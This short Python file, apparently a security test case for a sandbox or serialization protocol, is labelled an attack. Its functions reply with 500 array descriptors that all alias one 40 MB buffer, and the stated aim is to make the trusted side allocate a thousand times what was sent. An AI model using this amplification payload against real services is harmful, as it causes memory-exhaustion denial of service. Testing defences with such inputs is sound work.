# /// attack
# title = "answers with arrays that all lie on the same bytes"
# aim = "to make the trusted side allocate a thousand times what was sent"
# ///
from wire_helper import reply

SIZE = 40 << 20


def double(x):
    reply({"value": [{2: ["uint8", [SIZE], 0, SIZE]}] * 500}, SIZE)


def total(step, times):
    double(step)


spell = double


class Counter:
    def __init__(self, start):
        reply({"value": [{3: [0, SIZE]}] * 500}, SIZE)
